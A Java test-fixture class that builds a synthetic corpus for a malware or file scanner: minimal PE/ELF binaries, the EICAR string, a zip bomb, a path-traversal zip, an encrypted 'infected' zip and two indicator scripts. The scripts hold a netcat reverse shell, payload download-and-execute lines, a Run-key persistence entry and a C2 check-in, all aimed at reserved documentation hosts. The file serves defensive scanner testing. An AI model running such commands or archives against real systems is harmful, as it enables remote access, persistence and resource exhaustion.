package io.trawl.worker.testcorpus;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;

/**
 * A harmless synthetic corpus, built in code: minimal PE and ELF files, archives (including hostile ones), scripts
 * with indicator strings, the EICAR test string and edge cases. Nothing here is real malware; every builder is
 * deterministic so hashes are stable between runs.
 */
public final class TestCorpus {

	/** The EICAR anti-virus test string: detected by scanners, harmless by design. */
	public static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

	/** The imports every corpus PE carries, in order; ordinals are written as {@code #N}. */
	public static final Map<String, List<String>> DEFAULT_IMPORTS = defaultImports();

	private TestCorpus() {
	}

	private static Map<String, List<String>> defaultImports() {
		Map<String, List<String>> imports = new LinkedHashMap<>();
		imports.put("KERNEL32.dll", List.of("ExitProcess", "GetProcAddress", "LoadLibraryA", "VirtualAlloc"));
		imports.put("USER32.dll", List.of("MessageBoxA"));
		imports.put("WS2_32.dll", List.of("#3", "#115"));
		imports.put("OLEAUT32.dll", List.of("#2"));
		imports.put("helper.ocx", List.of("#7", "Start"));
		return imports;
	}

	/** Writes every corpus file into {@code dir} (created if missing) and returns the files in a stable order. */
	public static List<Path> writeTo(Path dir) throws IOException {
		Files.createDirectories(dir);
		Map<String, byte[]> files = new LinkedHashMap<>();
		files.put("pe32.exe", pe32());
		files.put("pe64.exe", pe64());
		files.put("pe32-signed-overlay.exe", pe(false, DEFAULT_IMPORTS, List.of("Alpha", "Beta"), 300, true));
		files.put("pe32-truncated.exe", truncatedPe());
		files.put("elf32", elf32());
		files.put("elf64", elf64());
		files.put("elf64-truncated", truncatedElf());
		files.put("normal.zip", normalZip());
		files.put("nested-3.zip", nestedZip(3));
		files.put("traversal.zip", traversalZip());
		files.put("corrupt.zip", corruptZip());
		files.put("bomb.zip", zipBomb());
		files.put("infected.zip", zipCrypto(Map.of("sample.ps1", powershellScript().getBytes(StandardCharsets.UTF_8)),
				"infected"));
		files.put("script.sh.gz", gzip(shellScript().getBytes(StandardCharsets.UTF_8)));
		files.put("bundle.tar", tar(Map.of("bin/pe32.exe", pe32(), "etc/run.sh",
				shellScript().getBytes(StandardCharsets.UTF_8))));
		files.put("dropper.sh", shellScript().getBytes(StandardCharsets.UTF_8));
		files.put("loader.ps1", powershellScript().getBytes(StandardCharsets.UTF_8));
		files.put("utf16-strings.bin", utf16Strings());
		files.put("eicar.com", eicar());
		files.put("random-64k.bin", randomBytes(64 * 1024, 42));
		files.put("random-1m.bin", randomBytes(1 << 20, 7));
		files.put("empty", new byte[0]);
		files.put("one-byte", new byte[] { 0x4d });
		files.put("zeros-4k", new byte[4096]);
		List<Path> written = new ArrayList<>();
		for (Map.Entry<String, byte[]> file : files.entrySet()) {
			Path path = dir.resolve(file.getKey());
			Files.write(path, file.getValue());
			written.add(path);
		}
		return written;
	}

	public static byte[] eicar() {
		return EICAR.getBytes(StandardCharsets.US_ASCII);
	}

	public static byte[] randomBytes(int size, long seed) {
		byte[] bytes = new byte[size];
		new Random(seed).nextBytes(bytes);
		return bytes;
	}

	public static String shellScript() {
		return """
				#!/bin/sh
				# synthetic test script: fetches nothing, the hosts are reserved for documentation
				URL="http://malware-test.example.com/payload/stage2.bin"
				curl -s "$URL" -o /tmp/.cache/stage2 || wget -q https://198.51.100.23:8443/drop.sh
				echo "contact admin@evil-test.example.org" > /dev/null
				ping -c1 2001:db8::7 >/dev/null 2>&1
				nc 203.0.113.5 4444 -e /bin/sh
				chmod +x /tmp/.cache/stage2 && /tmp/.cache/stage2 --beacon update.badhost-test.net
				""";
	}

	public static String powershellScript() {
		return """
				# synthetic test script
				$u = 'https://cdn.fake-updates.example.net/update/kb5011.ps1'
				Set-ItemProperty -Path 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value 'C:\\Users\\Public\\updater.exe'
				New-Item -Path 'HKEY_CURRENT_USER\\Software\\TrawlTest\\Config' -Force
				(New-Object Net.WebClient).DownloadFile($u, "$env:TEMP\\kb5011.ps1")
				Invoke-WebRequest -Uri http://192.0.2.44/c2/checkin -Method POST
				Write-Output 'ops@c2-test.example.com'
				""";
	}

	/** Bytes with UTF-16LE strings between binary noise, like resources in a Windows binary. */
	public static byte[] utf16Strings() {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(randomBytes(64, 1));
		out.writeBytes("http://wide-test.example.com/wide/path".getBytes(StandardCharsets.UTF_16LE));
		out.writeBytes(new byte[] { 0, 0, (byte) 0xff, (byte) 0xfe });
		out.writeBytes("HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\TrawlSvc"
				.getBytes(StandardCharsets.UTF_16LE));
		out.writeBytes(new byte[] { 0, 0 });
		out.writeBytes(randomBytes(64, 2));
		out.writeBytes("C:\\Windows\\System32\\drivers\\trawl.sys".getBytes(StandardCharsets.UTF_16LE));
		out.writeBytes(randomBytes(64, 3));
		return out.toByteArray();
	}

	// ---- PE

	/** A minimal valid PE32 (i386, GUI) with {@link #DEFAULT_IMPORTS}, two exports and a resource directory. */
	public static byte[] pe32() {
		return pe(false, DEFAULT_IMPORTS, List.of("Alpha", "Beta"), 0, false);
	}

	/** A minimal valid PE32+ (x86-64, console) with {@link #DEFAULT_IMPORTS}. */
	public static byte[] pe64() {
		return pe(true, DEFAULT_IMPORTS, List.of(), 0, false);
	}

	/** The first 0x150 bytes of {@link #pe32()}: the section table is cut off. */
	public static byte[] truncatedPe() {
		return Arrays.copyOf(pe32(), 0x150);
	}

	/** The PE timestamp every corpus PE carries: 2021-03-04T05:06:07Z. */
	public static final long PE_TIMESTAMP = 1614834367L;

	/**
	 * Builds a PE with sections .text, .rdata (imports, exports) and .rsrc (one resource). Imports named {@code #N}
	 * are by ordinal. {@code overlayBytes} are appended after the last section; {@code signed} puts a (fake)
	 * certificate table there and points the security directory at it.
	 */
	public static byte[] pe(boolean plus, Map<String, List<String>> imports, List<String> exports, int overlayBytes,
			boolean signed) {
		int fileAlign = 0x200;
		int sectionAlign = 0x1000;
		int textRva = 0x1000;
		int rdataRva = 0x2000;
		int rsrcRva = 0x3000;
		byte[] text = new byte[0x200];
		byte[] code = { 0x55, (byte) 0x89, (byte) 0xe5, 0x6a, 0x00, (byte) 0xff, 0x15, 0, 0x20, 0x40, 0, (byte) 0xc3 };
		System.arraycopy(code, 0, text, 0, code.length);

		ByteBuffer rdata = le(0x1000);
		int ptr = plus ? 8 : 4;
		// import descriptors, then per dll: lookup table, address table, names
		int descriptors = 0;
		int cursor = (imports.size() + 1) * 20;
		for (Map.Entry<String, List<String>> dll : imports.entrySet()) {
			int thunks = (dll.getValue().size() + 1) * ptr;
			int ilt = cursor;
			int iat = ilt + thunks;
			cursor = iat + thunks;
			List<Long> values = new ArrayList<>();
			for (String function : dll.getValue()) {
				if (function.startsWith("#")) {
					long ordinal = Long.parseLong(function.substring(1));
					values.add(ordinal | (plus ? 1L << 63 : 1L << 31));
				}
				else {
					cursor = align(cursor, 2);
					values.add((long) (rdataRva + cursor));
					rdata.putShort(cursor, (short) 0);
					cursor = putAscii(rdata, cursor + 2, function);
				}
			}
			for (int i = 0; i < values.size(); i++) {
				putPointer(rdata, ilt + i * ptr, values.get(i), plus);
				putPointer(rdata, iat + i * ptr, values.get(i), plus);
			}
			int name = cursor;
			cursor = putAscii(rdata, cursor, dll.getKey());
			rdata.putInt(descriptors, rdataRva + ilt);
			rdata.putInt(descriptors + 12, rdataRva + name);
			rdata.putInt(descriptors + 16, rdataRva + iat);
			descriptors += 20;
			cursor = align(cursor, 4);
		}
		int importSize = (imports.size() + 1) * 20;
		int exportDir = 0;
		int exportSize = 0;
		if (!exports.isEmpty()) {
			exportDir = align(cursor, 4);
			int functions = exportDir + 40;
			int names = functions + 4 * exports.size();
			int ordinals = names + 4 * exports.size();
			cursor = ordinals + 2 * exports.size();
			int dllName = cursor;
			cursor = putAscii(rdata, cursor, "corpus.dll");
			for (int i = 0; i < exports.size(); i++) {
				rdata.putInt(functions + 4 * i, textRva + i);
				rdata.putInt(names + 4 * i, rdataRva + cursor);
				rdata.putShort(ordinals + 2 * i, (short) i);
				cursor = putAscii(rdata, cursor, exports.get(i));
			}
			rdata.putInt(exportDir + 12, rdataRva + dllName);
			rdata.putInt(exportDir + 16, 1);
			rdata.putInt(exportDir + 20, exports.size());
			rdata.putInt(exportDir + 24, exports.size());
			rdata.putInt(exportDir + 28, rdataRva + functions);
			rdata.putInt(exportDir + 32, rdataRva + names);
			rdata.putInt(exportDir + 36, rdataRva + ordinals);
			exportSize = cursor - exportDir;
		}
		int rdataSize = align(cursor, fileAlign);

		// .rsrc: root (1 type) -> type 16 (version) dir (1 id) -> lang dir (1) -> data entry
		ByteBuffer rsrc = le(0x200);
		rsrc.putShort(14, (short) 1);
		rsrc.putInt(16, 16);
		rsrc.putInt(20, 0x80000000 | 24);
		rsrc.putShort(24 + 14, (short) 1);
		rsrc.putInt(24 + 16, 1);
		rsrc.putInt(24 + 20, 0x80000000 | 48);
		rsrc.putShort(48 + 14, (short) 1);
		rsrc.putInt(48 + 16, 0x409);
		rsrc.putInt(48 + 20, 72);
		rsrc.putInt(72, rsrcRva + 96);
		rsrc.putInt(76, 16);
		putAscii(rsrc, 96, "corpus resource");

		int headers = 0x400;
		int textRaw = headers;
		int rdataRaw = textRaw + text.length;
		int rsrcRaw = rdataRaw + rdataSize;
		int end = rsrcRaw + 0x200;
		byte[] certificate = new byte[0];
		if (signed) {
			certificate = new byte[Math.max(overlayBytes, 16)];
			ByteBuffer cert = le(certificate.length);
			cert.putInt(0, certificate.length);
			cert.putShort(4, (short) 0x0200);
			cert.putShort(6, (short) 0x0002);
			cert.get(0, certificate);
		}
		else if (overlayBytes > 0) {
			certificate = randomBytes(overlayBytes, 99);
		}
		ByteBuffer pe = le(end + certificate.length);
		pe.put(0, (byte) 'M').put(1, (byte) 'Z');
		pe.putInt(0x3c, 0x80);
		putAscii(pe, 0x40, "This program cannot be run in DOS mode.");
		int nt = 0x80;
		pe.putInt(nt, 0x00004550);
		int coff = nt + 4;
		pe.putShort(coff, (short) (plus ? 0x8664 : 0x14c));
		pe.putShort(coff + 2, (short) 3);
		pe.putInt(coff + 4, (int) PE_TIMESTAMP);
		int optionalSize = plus ? 0xf0 : 0xe0;
		pe.putShort(coff + 16, (short) optionalSize);
		pe.putShort(coff + 18, (short) (plus ? 0x0022 : 0x0102));
		int opt = coff + 20;
		pe.putShort(opt, (short) (plus ? 0x20b : 0x10b));
		pe.put(opt + 2, (byte) 14);
		pe.putInt(opt + 4, text.length);
		pe.putInt(opt + 8, rdataSize + 0x200);
		pe.putInt(opt + 16, textRva);
		pe.putInt(opt + 20, textRva);
		int windows;
		if (plus) {
			pe.putLong(opt + 24, 0x140000000L);
			windows = opt + 32;
		}
		else {
			pe.putInt(opt + 24, rdataRva);
			pe.putInt(opt + 28, 0x400000);
			windows = opt + 32;
		}
		pe.putInt(windows, sectionAlign);
		pe.putInt(windows + 4, fileAlign);
		pe.putShort(windows + 8, (short) 6);
		pe.putShort(windows + 16, (short) 6);
		pe.putInt(windows + 24, rsrcRva + sectionAlign);
		pe.putInt(windows + 28, headers);
		pe.putShort(windows + 36, (short) (plus ? 3 : 2));
		pe.putShort(windows + 38, (short) 0x8140);
		int sizes = windows + 40;
		long[] reserves = { 0x100000, 0x1000, 0x100000, 0x1000 };
		for (long reserve : reserves) {
			if (plus) {
				pe.putLong(sizes, reserve);
				sizes += 8;
			}
			else {
				pe.putInt(sizes, (int) reserve);
				sizes += 4;
			}
		}
		pe.putInt(sizes + 4, 16);
		int dirs = sizes + 8;
		if (exportSize > 0) {
			pe.putInt(dirs, rdataRva + exportDir).putInt(dirs + 4, exportSize);
		}
		pe.putInt(dirs + 8, rdataRva).putInt(dirs + 12, importSize);
		pe.putInt(dirs + 16, rsrcRva).putInt(dirs + 20, 0x200);
		if (signed) {
			pe.putInt(dirs + 32, end).putInt(dirs + 36, certificate.length);
		}
		int sections = opt + optionalSize;
		section(pe, sections, ".text", text.length, textRva, text.length, textRaw, 0x60000020);
		section(pe, sections + 40, ".rdata", cursor, rdataRva, rdataSize, rdataRaw, 0x40000040);
		section(pe, sections + 80, ".rsrc", 0x200, rsrcRva, 0x200, rsrcRaw, 0x40000040);
		pe.put(textRaw, text);
		pe.put(rdataRaw, rdata.array(), 0, rdataSize);
		pe.put(rsrcRaw, rsrc.array());
		pe.put(end, certificate);
		return pe.array();
	}

	private static void section(ByteBuffer pe, int at, String name, int virtualSize, int rva, int rawSize, int raw,
			int characteristics) {
		putAscii(pe, at, name);
		pe.putInt(at + 8, virtualSize);
		pe.putInt(at + 12, rva);
		pe.putInt(at + 16, rawSize);
		pe.putInt(at + 20, raw);
		pe.putInt(at + 36, characteristics);
	}

	private static void putPointer(ByteBuffer buffer, int at, long value, boolean plus) {
		if (plus) {
			buffer.putLong(at, value);
		}
		else {
			buffer.putInt(at, (int) value);
		}
	}

	/** Writes a NUL-terminated ASCII string and returns the offset after the NUL. */
	private static int putAscii(ByteBuffer buffer, int at, String text) {
		byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
		buffer.put(at, bytes);
		buffer.put(at + bytes.length, (byte) 0);
		return at + bytes.length + 1;
	}

	private static int align(int value, int alignment) {
		return (value + alignment - 1) / alignment * alignment;
	}

	private static ByteBuffer le(int size) {
		return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
	}

	// ---- ELF

	/** 32-bit little-endian i386 executable, interpreter /lib/ld-linux.so.2, needs libc.so.6. */
	public static byte[] elf32() {
		return elf(false, "/lib/ld-linux.so.2", List.of("libc.so.6"));
	}

	/** 64-bit little-endian x86-64 shared object (PIE), interpreter ld-linux-x86-64, needs libc and libm. */
	public static byte[] elf64() {
		return elf(true, "/lib64/ld-linux-x86-64.so.2", List.of("libc.so.6", "libm.so.6"));
	}

	/** {@link #elf64()} cut in the middle of its program headers. */
	public static byte[] truncatedElf() {
		return Arrays.copyOf(elf64(), 100);
	}

	/**
	 * An ELF with PT_INTERP, PT_LOAD and PT_DYNAMIC segments and sections .interp, .dynstr, .dynamic, .text and
	 * .shstrtab. Addresses equal file offsets (plus 0x8048000 for the 32-bit executable).
	 */
	public static byte[] elf(boolean is64, String interpreter, List<String> needed) {
		int ehSize = is64 ? 64 : 52;
		int phEntry = is64 ? 56 : 32;
		int shEntry = is64 ? 64 : 40;
		int dynEntry = is64 ? 16 : 8;
		long base = is64 ? 0 : 0x8048000L;
		int phOff = ehSize;
		int interpOff = phOff + 3 * phEntry;
		int dynstrOff = interpOff + interpreter.length() + 1;
		ByteArrayOutputStream dynstr = new ByteArrayOutputStream();
		dynstr.write(0);
		List<Integer> neededOffsets = new ArrayList<>();
		for (String library : needed) {
			neededOffsets.add(dynstr.size());
			dynstr.writeBytes((library + "\0").getBytes(StandardCharsets.US_ASCII));
		}
		int dynamicOff = align(dynstrOff + dynstr.size(), 8);
		int dynamicCount = needed.size() + 3;
		int textOff = dynamicOff + dynamicCount * dynEntry;
		byte[] text = { 0x31, (byte) 0xc0, (byte) 0xc3, (byte) 0x90, 0x48, (byte) 0x89, (byte) 0xe5, 0x0f, 0x05,
				0x6a, 0x3c, 0x58 };
		int shstrOff = textOff + text.length;
		String shstr = "\0.interp\0.dynstr\0.dynamic\0.text\0.shstrtab\0";
		int shOff = align(shstrOff + shstr.length(), 8);
		int total = shOff + 6 * shEntry;
		ByteBuffer elf = le(total);
		elf.put(0, new byte[] { 0x7f, 'E', 'L', 'F', (byte) (is64 ? 2 : 1), 1, 1, 0 });
		elf.putShort(16, (short) (is64 ? 3 : 2));
		elf.putShort(18, (short) (is64 ? 62 : 3));
		elf.putInt(20, 1);
		int at = 24;
		at = word(elf, at, base + textOff, is64);
		at = word(elf, at, phOff, is64);
		at = word(elf, at, shOff, is64);
		elf.putInt(at, 0);
		elf.putShort(at + 4, (short) ehSize);
		elf.putShort(at + 6, (short) phEntry);
		elf.putShort(at + 8, (short) 3);
		elf.putShort(at + 10, (short) shEntry);
		elf.putShort(at + 12, (short) 6);
		elf.putShort(at + 14, (short) 5);
		programHeader(elf, phOff, is64, 3, 4, interpOff, base + interpOff, interpreter.length() + 1, 1);
		programHeader(elf, phOff + phEntry, is64, 1, 5, 0, base, total, 0x1000);
		programHeader(elf, phOff + 2 * phEntry, is64, 2, 6, dynamicOff, base + dynamicOff,
				(long) dynamicCount * dynEntry, 8);
		putAscii(elf, interpOff, interpreter);
		elf.put(dynstrOff, dynstr.toByteArray());
		int d = dynamicOff;
		for (int offset : neededOffsets) {
			d = dyn(elf, d, is64, 1, offset);
		}
		d = dyn(elf, d, is64, 5, base + dynstrOff);
		d = dyn(elf, d, is64, 10, dynstr.size());
		dyn(elf, d, is64, 0, 0);
		elf.put(textOff, text);
		elf.put(shstrOff, shstr.getBytes(StandardCharsets.US_ASCII));
		sectionHeader(elf, shOff + shEntry, is64, 1, 1, 2, base + interpOff, interpOff, interpreter.length() + 1, 0,
				0);
		sectionHeader(elf, shOff + 2 * shEntry, is64, 9, 3, 2, base + dynstrOff, dynstrOff, dynstr.size(), 0, 0);
		sectionHeader(elf, shOff + 3 * shEntry, is64, 17, 6, 3, base + dynamicOff, dynamicOff,
				(long) dynamicCount * dynEntry, 2, dynEntry);
		sectionHeader(elf, shOff + 4 * shEntry, is64, 26, 1, 6, base + textOff, textOff, text.length, 0, 0);
		sectionHeader(elf, shOff + 5 * shEntry, is64, 32, 3, 0, 0, shstrOff, shstr.length(), 0, 0);
		return elf.array();
	}

	private static int word(ByteBuffer buffer, int at, long value, boolean is64) {
		if (is64) {
			buffer.putLong(at, value);
			return at + 8;
		}
		buffer.putInt(at, (int) value);
		return at + 4;
	}

	private static int dyn(ByteBuffer elf, int at, boolean is64, long tag, long value) {
		return word(elf, word(elf, at, tag, is64), value, is64);
	}

	private static void programHeader(ByteBuffer elf, int at, boolean is64, int type, int flags, long offset,
			long vaddr, long size, long alignment) {
		elf.putInt(at, type);
		if (is64) {
			elf.putInt(at + 4, flags);
			elf.putLong(at + 8, offset).putLong(at + 16, vaddr).putLong(at + 24, vaddr);
			elf.putLong(at + 32, size).putLong(at + 40, size).putLong(at + 48, alignment);
		}
		else {
			elf.putInt(at + 4, (int) offset).putInt(at + 8, (int) vaddr).putInt(at + 12, (int) vaddr);
			elf.putInt(at + 16, (int) size).putInt(at + 20, (int) size).putInt(at + 24, flags);
			elf.putInt(at + 28, (int) alignment);
		}
	}

	private static void sectionHeader(ByteBuffer elf, int at, boolean is64, int name, int type, long flags,
			long address, long offset, long size, int link, long entrySize) {
		elf.putInt(at, name).putInt(at + 4, type);
		int p = word(elf, at + 8, flags, is64);
		p = word(elf, p, address, is64);
		p = word(elf, p, offset, is64);
		p = word(elf, p, size, is64);
		elf.putInt(p, link).putInt(p + 4, 0);
		p = word(elf, p + 8, 1, is64);
		word(elf, p, entrySize, is64);
	}

	// ---- archives

	/** A zip of a PE, an ELF, a script and the EICAR string. */
	public static byte[] normalZip() {
		Map<String, byte[]> members = new LinkedHashMap<>();
		members.put("bin/pe32.exe", pe32());
		members.put("bin/elf64", elf64());
		members.put("scripts/dropper.sh", shellScript().getBytes(StandardCharsets.UTF_8));
		members.put("eicar.com", eicar());
		return zip(members);
	}

	public static byte[] zip(Map<String, byte[]> members) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (Map.Entry<String, byte[]> member : members.entrySet()) {
				ZipEntry entry = new ZipEntry(member.getKey());
				entry.setTime(1_600_000_000_000L);
				zip.putNextEntry(entry);
				zip.write(member.getValue());
				zip.closeEntry();
			}
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
		return bytes.toByteArray();
	}

	/** A zip inside a zip, {@code depth} levels deep; the innermost holds the EICAR string. */
	public static byte[] nestedZip(int depth) {
		byte[] inner = zip(Map.of("eicar.com", eicar()));
		for (int level = 2; level <= depth; level++) {
			inner = zip(Map.of("level" + level + ".zip", inner));
		}
		return inner;
	}

	/** Members named with {@code ../}, an absolute path and a Windows drive path. */
	public static byte[] traversalZip() {
		Map<String, byte[]> members = new LinkedHashMap<>();
		members.put("../../../../tmp/trawl-traversal-test", "escaped\n".getBytes(StandardCharsets.US_ASCII));
		members.put("/etc/trawl-absolute-test", "absolute\n".getBytes(StandardCharsets.US_ASCII));
		members.put("C:\\Windows\\trawl-drive-test.txt", "drive\n".getBytes(StandardCharsets.US_ASCII));
		return zip(members);
	}

	/** {@link #normalZip()} with its middle overwritten and its central directory cut off. */
	public static byte[] corruptZip() {
		byte[] zip = normalZip();
		byte[] corrupt = Arrays.copyOf(zip, zip.length - 40);
		Arrays.fill(corrupt, 200, Math.min(corrupt.length, 600), (byte) 0xa5);
		return corrupt;
	}

	/** One member of 300 MiB of zeros, deflated to a few hundred KiB: over the default expansion limits. */
	public static byte[] zipBomb() {
		return zipBomb(300L << 20);
	}

	/** A zip with one member of {@code expandedBytes} zeros, compressed at the highest ratio. */
	public static byte[] zipBomb(long expandedBytes) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			zip.putNextEntry(new ZipEntry("zeros.bin"));
			byte[] zeros = new byte[1 << 20];
			for (long written = 0; written < expandedBytes; written += zeros.length) {
				zip.write(zeros, 0, (int) Math.min(zeros.length, expandedBytes - written));
			}
			zip.closeEntry();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
		return bytes.toByteArray();
	}

	public static byte[] gzip(byte[] content) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
			gzip.write(content);
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
		return bytes.toByteArray();
	}

	public static byte[] tar(Map<String, byte[]> members) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (TarArchiveOutputStream tar = new TarArchiveOutputStream(bytes)) {
			tar.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
			for (Map.Entry<String, byte[]> member : new java.util.TreeMap<>(members).entrySet()) {
				TarArchiveEntry entry = new TarArchiveEntry(member.getKey());
				entry.setSize(member.getValue().length);
				entry.setModTime(1_600_000_000_000L);
				tar.putArchiveEntry(entry);
				tar.write(member.getValue());
				tar.closeArchiveEntry();
			}
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
		return bytes.toByteArray();
	}

	/**
	 * A zip whose members are stored and encrypted with traditional PKWARE (ZipCrypto) encryption, the format of
	 * {@code zip -P infected}. Written by hand because the JDK and commons-compress only read it.
	 */
	public static byte[] zipCrypto(Map<String, byte[]> members, String password) {
		ByteBuffer out = le(64 * 1024 + members.values().stream().mapToInt(m -> m.length + 128).sum());
		ByteArrayOutputStream central = new ByteArrayOutputStream();
		Random random = new Random(5);
		int count = 0;
		for (Map.Entry<String, byte[]> member : new java.util.TreeMap<>(members).entrySet()) {
			byte[] name = member.getKey().getBytes(StandardCharsets.UTF_8);
			byte[] plain = member.getValue();
			CRC32 crc = new CRC32();
			crc.update(plain);
			int crcValue = (int) crc.getValue();
			byte[] header = new byte[12];
			random.nextBytes(header);
			header[11] = (byte) (crcValue >>> 24);
			ZipCryptoKeys keys = new ZipCryptoKeys(password);
			byte[] encrypted = new byte[12 + plain.length];
			for (int i = 0; i < 12; i++) {
				encrypted[i] = keys.encrypt(header[i]);
			}
			for (int i = 0; i < plain.length; i++) {
				encrypted[12 + i] = keys.encrypt(plain[i]);
			}
			int localOffset = out.position();
			out.putInt(0x04034b50).putShort((short) 20).putShort((short) 1).putShort((short) 0);
			out.putShort((short) 0).putShort((short) 0x5121);
			out.putInt(crcValue).putInt(encrypted.length).putInt(plain.length);
			out.putShort((short) name.length).putShort((short) 0).put(name).put(encrypted);
			ByteBuffer entry = le(46 + name.length);
			entry.putInt(0x02014b50).putShort((short) 20).putShort((short) 20).putShort((short) 1).putShort((short) 0);
			entry.putShort((short) 0).putShort((short) 0x5121);
			entry.putInt(crcValue).putInt(encrypted.length).putInt(plain.length);
			entry.putShort((short) name.length).putShort((short) 0).putShort((short) 0).putShort((short) 0);
			entry.putShort((short) 0).putInt(0).putInt(localOffset).put(name);
			central.writeBytes(entry.array());
			count++;
		}
		int centralOffset = out.position();
		out.put(central.toByteArray());
		out.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) count)
				.putShort((short) count).putInt(central.size()).putInt(centralOffset).putShort((short) 0);
		return Arrays.copyOf(out.array(), out.position());
	}

	/** The three-key state of traditional PKWARE encryption (APPNOTE 6.1). */
	private static final class ZipCryptoKeys {
		private int key0 = 0x12345678;
		private int key1 = 0x23456789;
		private int key2 = 0x34567890;

		ZipCryptoKeys(String password) {
			for (byte b : password.getBytes(StandardCharsets.ISO_8859_1)) {
				update(b);
			}
		}

		byte encrypt(byte plain) {
			int temp = (key2 | 2) & 0xffff;
			byte cipher = (byte) (plain ^ ((temp * (temp ^ 1)) >>> 8));
			update(plain);
			return cipher;
		}

		private void update(byte b) {
			key0 = crc(key0, b);
			key1 = (key1 + (key0 & 0xff)) * 134775813 + 1;
			key2 = crc(key2, (byte) (key1 >>> 24));
		}

		private static int crc(int crc, byte b) {
			int c = (crc ^ b) & 0xff;
			for (int k = 0; k < 8; k++) {
				c = (c & 1) != 0 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
			}
			return (crc >>> 8) ^ c;
		}
	}
}
